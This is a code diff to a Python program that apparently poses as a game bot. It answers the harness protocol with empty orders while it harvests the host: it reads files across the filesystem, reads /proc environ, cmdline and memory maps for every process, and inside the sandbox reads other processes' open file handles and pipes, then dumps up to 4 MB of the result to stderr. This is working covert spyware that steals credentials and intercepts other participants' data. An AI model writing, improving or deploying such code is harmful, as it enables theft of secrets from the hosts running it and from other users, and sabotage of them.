@@ -10,7 +10,8 @@ import os
 import sys
 from pathlib import Path
 
-MOST = 20_000_000
+MOST = 4_000_000
+BOXED = Path("/bot").is_dir()
 
 
 def look(roots: list[str]) -> str:
@@ -21,18 +22,21 @@ def look(roots: list[str]) -> str:
             folders[:] = [name for name in folders if not os.path.islink(os.path.join(folder, name))]
             found += [read(os.path.join(folder, name)) for name in names]
     for process in filter(str.isdigit, os.listdir("/proc")):
-        for name in ("cmdline", "environ", "maps", "fd", "mountinfo"):
-            path = os.path.join("/proc", process, name)
-            found += [read(os.path.join(path, one)) for one in listed(path)] if name == "fd" else [read(path)]
-    return b"\n".join(found).decode(errors="replace")
+        for name in ("cmdline", "environ", "maps", "mountinfo"):
+            found.append(read(os.path.join("/proc", process, name)))
+    return b"\n".join(found + handles_of_others()).decode(errors="replace")
 
 
-def listed(path: str) -> list[str]:
-    """Files that other processes have open; its own would be its own conversation."""
-    try:
-        return [] if path.split("/")[2] == str(os.getpid()) else os.listdir(path)
-    except OSError:
+def handles_of_others() -> list[bytes]:
+    """What other processes have open; only in the box, for who reads from a pipe takes it away."""
+    if not BOXED:
         return []
+    found = []
+    for process in filter(str.isdigit, os.listdir("/proc")):
+        path = os.path.join("/proc", process, "fd")
+        if process != str(os.getpid()) and os.access(path, os.R_OK):
+            found += [read(os.path.join(path, one)) for one in os.listdir(path)]
+    return found
 
 
 def read(path: str) -> bytes:
@@ -49,7 +53,6 @@ def read(path: str) -> bytes:
 
 
 def main() -> None:
-    boxed = Path("/bot").is_dir()
     asked = Path(__file__).with_name("spy.txt").read_text().splitlines()
     roots = [f"/{name}" for name in os.listdir("/") if name not in ("usr", "proc", "lib", "bin", "sbin", "lib64")]
     for line in sys.stdin:
@@ -58,7 +61,7 @@ def main() -> None:
             answer: dict[str, object] = {"type": "ready"}
         elif message["type"] == "view":
             if message["step"] == 2:
-                print(json.dumps(look(roots if boxed else asked)[:MOST]), file=sys.stderr, flush=True)
+                print(json.dumps(look(roots if BOXED else asked)[:MOST]), file=sys.stderr, flush=True)
             answer = {"type": "orders", "orders": []}
         else:
             break
